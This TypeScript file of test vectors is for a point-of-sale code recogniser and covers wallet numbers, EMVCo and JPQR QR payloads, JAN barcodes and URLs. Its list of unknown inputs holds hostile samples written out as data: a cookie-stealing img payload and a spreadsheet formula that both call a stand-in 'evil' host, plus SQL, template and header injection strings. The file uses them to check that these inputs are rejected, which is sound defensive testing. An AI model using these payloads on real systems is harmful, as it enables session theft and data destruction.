import type { Recognised } from "./recognised.ts";

export interface CodeVector {
  readonly what: string;
  readonly text: string;
  readonly expected: Recognised;
}

/** An example shop code of EMVCo (Merchant-Presented Mode 1.1, annex B) without its checksum. */
const emvShop =
  "00020101021229300012D156000000000510A93FO3230Q31280012D15600000001030812345678520441115802CN" +
  "5914BEST TRANSPORT6007BEIJING64200002ZH0104最佳运输0202北京540523.7253031565502016233030412340603***0708A60086670902ME9132" +
  "0016A0112233449988770708123456786304";

/** A JPQR shop code in the layout of the scheme's public test suites, without its checksum. */
const jpqrShop =
  "0002016003xxx01021129300012D156000000000510A93FO3230Q31280012D15600000001030812345678" +
  "26680019jp.or.paymentsjapan01130000000000001020400010306000001040600000153033925903xxx" +
  "64180002JA0108メルペイ カフェ520441115802JP61071066143" +
  "6304";

/**
 * Codes of wallets. "Published" ones stand in a scheme's own documents or tests as examples; the
 * rest are made up after the format. None of them was ever anybody's money.
 */
export const walletVectors: readonly CodeVector[] = [
  {
    what: "Alipay+ 24 digits, published, routing 001",
    text: "251001020123456789012345",
    expected: wallet("ALIPAYPLUS_CGCP", "251001020123456789012345"),
  },
  {
    what: "Alipay+ 24 digits, published, another kind of business",
    text: "281010897274821897274821",
    expected: wallet("ALIPAYPLUS_CGCP", "281010897274821897274821"),
  },
  {
    what: "Alipay+ 24 digits of the first test wallet",
    text: "281901020000000000000001",
    expected: wallet("ALIPAYPLUS_CGCP", "281901020000000000000001", "TrueMoney"),
  },
  {
    what: "Alipay+ 24 digits beginning with 30, of the last test wallet",
    text: "301910020000000000000001",
    expected: wallet("ALIPAYPLUS_CGCP", "301910020000000000000001", "Alipay"),
  },
  {
    what: "Alipay+ 24 digits typed in groups of four",
    text: " 2819 0502 0000 0000 0000 0001 ",
    expected: wallet("ALIPAYPLUS_CGCP", "281905020000000000000001", "GCash"),
  },
  {
    what: "Alipay+ 19 digits, published",
    text: "2893612204263667830",
    expected: wallet("ALIPAYPLUS_19", "2893612204263667830"),
  },
  {
    what: "19 digits whose sixth from the end is not 6: the older form",
    text: "2893612204263567830",
    expected: wallet("ALIPAY", "2893612204263567830"),
  },
  {
    what: "AlipayHK, published",
    text: "280244567856723026",
    expected: wallet("ALIPAY", "280244567856723026"),
  },
  {
    what: "Alipay, published, 17 digits",
    text: "28763443825664394",
    expected: wallet("ALIPAY", "28763443825664394"),
  },
  {
    what: "Alipay, published, 18 digits",
    text: "280438849930815813",
    expected: wallet("ALIPAY", "280438849930815813"),
  },
  {
    what: "Alipay at its shortest",
    text: "2512345678901234",
    expected: wallet("ALIPAY", "2512345678901234"),
  },
  {
    what: "Alipay at 23 digits, one short of Alipay+",
    text: "30123456789012345678901",
    expected: wallet("ALIPAY", "30123456789012345678901"),
  },
  {
    what: "WeChat Pay, published",
    text: "134570030591530831",
    expected: wallet("WECHAT", "134570030591530831", "WeChat Pay"),
  },
  {
    what: "WeChat Pay Hong Kong",
    text: "150012345678901234",
    expected: wallet("WECHAT", "150012345678901234", "WeChat Pay"),
  },
  {
    what: "UnionPay",
    text: "6212345678901234567",
    expected: wallet("UNIONPAY", "6212345678901234567", "UnionPay"),
  },
  {
    what: "PayPay",
    text: "90008181881234567890",
    expected: wallet("PAYPAY", "90008181881234567890", "PayPay"),
  },
  {
    what: "LINE Pay of Japan",
    text: "9000000000123456789",
    expected: wallet("LINEPAY_JP", "9000000000123456789", "LINE Pay"),
  },
  {
    what: "Rakuten Pay",
    text: "9000011234567890",
    expected: wallet("RAKUTENPAY", "9000011234567890", "Rakuten Pay"),
  },
  {
    what: "d Barai",
    text: "9000000212345678901234",
    expected: wallet("DBARAI", "9000000212345678901234", "d Barai"),
  },
  {
    what: "Merpay",
    text: "3158990012345678901",
    expected: wallet("MERPAY", "3158990012345678901", "Merpay"),
  },
  {
    what: "au PAY",
    text: "3158992112345678901",
    expected: wallet("AUPAY", "3158992112345678901", "au PAY"),
  },
  {
    what: "Yucho Pay, first bank",
    text: "3158993112345678901",
    expected: wallet("YUCHOPAY", "3158993112345678901", "Yucho Pay"),
  },
  {
    what: "Yucho Pay, last bank",
    text: "3158994012345678901",
    expected: wallet("YUCHOPAY", "3158994012345678901", "Yucho Pay"),
  },
];

/** Customer codes in EMVCo's frame: real payment codes, but of no wallet this till can ask. */
export const customerQrVectors: readonly CodeVector[] = [
  {
    what: "EMVCo CPM 1.1, first published example",
    text: "hQVDUFYwMWEaTwegAAAAVVVVVw8SNFZ4kBI0WNGRIgESNF8=",
    expected: { kind: "emvCpm", aid: "A0000000555555" },
  },
  {
    what: "EMVCo CPM 1.1, two applications and a common template",
    text:
      "hQVDUFYwMWETTwegAAAAVVVVUAhQcm9kdWN0MWETTwegAAAAZmZmUAhQcm9kdWN0MmJJWggSNFZ4kBI0WF8gDkNB" +
      "UkRIT0xERVIvRU1WXy0IcnVlc2RlZW5kIZ8QBwYBCgMAAACfJghYT9OF+iNLzJ82AgABnzcEbVjvEw==",
    expected: { kind: "emvCpm", aid: "A0000000555555" },
  },
  {
    what: "UnionPay, published, with two-byte tags",
    text:
      "hQVDUFYwMWFWTwigAAADMwEBAlcRYmNgAQBxNnLSMSIBAAABiAFfNAEAYzOfJghWite85mtxi58nAYCfEBEHAAED" +
      "oAAAAQgwMDAwMDAwMZ82AhEiggIAAJ83BCJgSI4=",
    expected: { kind: "emvCpm", aid: "A000000333010102" },
  },
  {
    what: "JPQR with an operator",
    text: "hQVKUFFSMWElTwowMDAwMDAwMDAxVxQxMjM0NTY3ODkwMTIzNDU2Nzg5MJkBeA==",
    expected: { kind: "jpqrCpm", operator: "0000000001" },
  },
  {
    what: "JPQR without an operator",
    text: "hQVKUFFSMWEIVwYxMjM0NTY=",
    expected: { kind: "jpqrCpm", operator: null },
  },
];

export const shopQrVectors: readonly CodeVector[] = [
  {
    what: "EMVCo's example",
    text: `${emvShop}A13A`,
    expected: { kind: "shopQr", standard: "EMV_MPM", checksumOk: true },
  },
  {
    what: "EMVCo's example with a wrong checksum",
    text: `${emvShop}A13B`,
    expected: { kind: "shopQr", standard: "EMV_MPM", checksumOk: false },
  },
  {
    what: "EMVCo's example with its checksum in small letters",
    text: `${emvShop}a13a`,
    expected: { kind: "shopQr", standard: "EMV_MPM", checksumOk: false },
  },
  {
    what: "JPQR",
    text: `${jpqrShop}DEE9`,
    expected: { kind: "shopQr", standard: "JPQR_MPM", checksumOk: true },
  },
  {
    what: "a shop code torn off in the middle",
    text: "00020101021126670014...6304ABCD",
    expected: { kind: "shopQr", standard: "EMV_MPM", checksumOk: false },
  },
  {
    what: "something torn behind a checksum that fits by chance",
    text: "0002015902026304B3059",
    expected: { kind: "shopQr", standard: "EMV_MPM", checksumOk: false },
  },
  {
    what: "a right checksum that is not where the structure has it",
    text: "00020101036304F377",
    expected: { kind: "shopQr", standard: "EMV_MPM", checksumOk: false },
  },
];

export const goodsVectors: readonly CodeVector[] = [
  { what: "JAN-13", text: "4901234567894", expected: goods("4901234567894", false) },
  {
    what: "JAN-13 beginning with 45",
    text: "4569951116179",
    expected: goods("4569951116179", false),
  },
  { what: "a book", text: "9784003101018", expected: goods("9784003101018", false) },
  { what: "JAN-8", text: "49123456", expected: goods("49123456", false) },
  { what: "another JAN-8", text: "49681239", expected: goods("49681239", false) },
  { what: "in-store 20", text: "2012345678903", expected: goods("2012345678903", true) },
  {
    what: "in-store 20 with a price",
    text: "2012345002982",
    expected: goods("2012345002982", true),
  },
  { what: "in-store 22", text: "2200012303504", expected: goods("2200012303504", true) },
  { what: "in-store 23", text: "2354321928757", expected: goods("2354321928757", true) },
  { what: "in-store 02", text: "0212345678909", expected: goods("0212345678909", true) },
  {
    what: "JAN-13 that begins like a shop QR",
    text: "0002011234566",
    expected: goods("0002011234566", false),
  },
  {
    what: "JAN-13 with a wrong check digit",
    text: "4901234567890",
    expected: { kind: "productMisread", code: "4901234567890", expectedCheckDigit: "4" },
  },
  {
    what: "JAN-8 with a wrong check digit",
    text: "49123457",
    expected: { kind: "productMisread", code: "49123457", expectedCheckDigit: "6" },
  },
];

export const addressVectors: readonly CodeVector[] = [
  ...[
    "HTTPS://G.EXAMPLE/MPM/3/GPLD0123456789",
    "https://pay.example/281001040123456789012345",
    "https://qr.alipay.com/fkx0123456789",
    "https://user@QR.PayPay.ne.jp:443/p2p01_example",
    "https://qr.95516.com/00010000/0123",
    "wxp://f2f0example",
    "weixin://wxpay/bizpayurl?pr=example",
    "upi://pay?pa=victim@bank&pn=Shop&am=1.00&cu=INR",
    "alipays:platformapi/startapp",
  ].map((text) => ({ what: text, text, expected: { kind: "url", payment: true } as const })),
  ...[
    "https://example.com/",
    "https://example.com/qr.alipay.com",
    "https://notqr.alipay.com/",
    "https://example.com/281001890123456789012345",
    "intent://scan/#Intent;scheme=zxing;end",
    "otpauth://totp/x?secret=JBSWY3DPEHPK3PXP",
  ].map((text) => ({ what: text, text, expected: { kind: "url", payment: false } as const })),
];

/** Everything else somebody may hold before the camera or type into the field. */
export const otherVectors: readonly CodeVector[] = [
  {
    what: "our own receipt",
    text: "NOREN-R1:20261122-0007",
    expected: { kind: "ownReceipt", receiptNumber: "20261122-0007" },
  },
  unknown("our mark without a number", "NOREN-R1:20261122", "noKnownForm"),
  unknown("nothing", "", "empty"),
  unknown("only spaces", "   ", "empty"),
  unknown("15 digits", "281234567890123", "noWalletNumber"),
  unknown("prefix 16", "160012345678901234", "noWalletNumber"),
  unknown("prefix 31", "310012345678901234", "noWalletNumber"),
  unknown("Alipay+ length kept for later, 25", "2510010201234567890123456", "noWalletNumber"),
  unknown("Alipay+ length kept for later, 28", "2510010201234567890123456789", "noWalletNumber"),
  unknown("WeChat Pay with a digit too many", "1345700305915308310", "noWalletNumber"),
  unknown("UnionPay with a digit too few", "621234567890123456", "noWalletNumber"),
  unknown("Yucho Pay of a bank that is none", "3158993012345678901", "noWalletNumber"),
  unknown("a letter l for a digit 1", "28123456789012345l", "noKnownForm"),
  unknown("full-width digits", "２８０２４４５６７８５６７２３０１", "foreignCharacters"),
  unknown("Arabic-Indic digits", "٢٨١٢٣٤٥٦٧٨٩٠١٢٣٤٥٦", "foreignCharacters"),
  unknown("Devanagari digits", "२८१२३४५६७८९०१२३४५६", "foreignCharacters"),
  unknown("Thai digits", "๒๘๑๒๓๔๕๖๗๘๙๐๑๒๓๔๕๖", "foreignCharacters"),
  unknown("a direction mark between digits", "2812345678901234\u202e56", "foreignCharacters"),
  unknown("a zero-width space between digits", "2812345678901234\u200b56", "foreignCharacters"),
  unknown("an ideographic space between digits", "28123456\u300078901234", "foreignCharacters"),
  unknown("bytes that were no UTF-8", "\ufffd\ufffd\u0000\ufffd", "controlCharacters"),
  unknown("half a character", "281234567890123456\ud800", "foreignCharacters"),
  unknown("keys of a terminal", "\u0010\u0012\u001b[2J281234567890123456", "controlCharacters"),
  unknown("GS1 with its separator", "\u001d0104901234567894", "controlCharacters"),
  unknown("a line break behind the digits", "281234567890123456\n", "controlCharacters"),
  unknown("a visiting card", "BEGIN:VCARD\nFN:山田\nTEL:090\nEND:VCARD", "controlCharacters"),
  unknown("a script", "data:text/html,<script>alert(1)</script>", "noKnownForm"),
  unknown("markup", "<img src=x onerror=fetch('//evil/'+document.cookie)>", "noKnownForm"),
  unknown("a template", "{{constructor.constructor('alert(1)')()}}", "noKnownForm"),
  unknown("a query", "';DROP TABLE receipts;--", "noKnownForm"),
  unknown("a formula", '=HYPERLINK("http://evil/?"&A1,"x")', "noKnownForm"),
  unknown("an escaped header", "%00%0d%0aSet-Cookie:a=b", "noKnownForm"),
  unknown("a shop's Wi-Fi", "WIFI:T:WPA;S:shop;P:secret;;", "noKnownForm"),
  unknown("a passport", "P<JPNYAMADA<<TARO<<<<<<<<<<<<<<<<<<<<<<<<<<<<", "noKnownForm"),
  unknown("plain Japanese", "ありがとうございます", "noKnownForm"),
  unknown("digits in groups by hyphens", "2819-0102-0000-0000-0000-0001", "noKnownForm"),
  unknown("one character above the limit", "2".repeat(1025), "tooLong"),
];

function wallet(
  family: Extract<Recognised, { kind: "wallet" }>["family"],
  code: string,
  brand: Extract<Recognised, { kind: "wallet" }>["brand"] = null,
): Recognised {
  return { kind: "wallet", family, brand, code };
}

function goods(code: string, inStore: boolean): Recognised {
  return { kind: "product", code, inStore };
}

function unknown(
  what: string,
  text: string,
  why: Extract<Recognised, { kind: "unknown" }>["why"],
): CodeVector {
  return { what, text, expected: { kind: "unknown", why } };
}
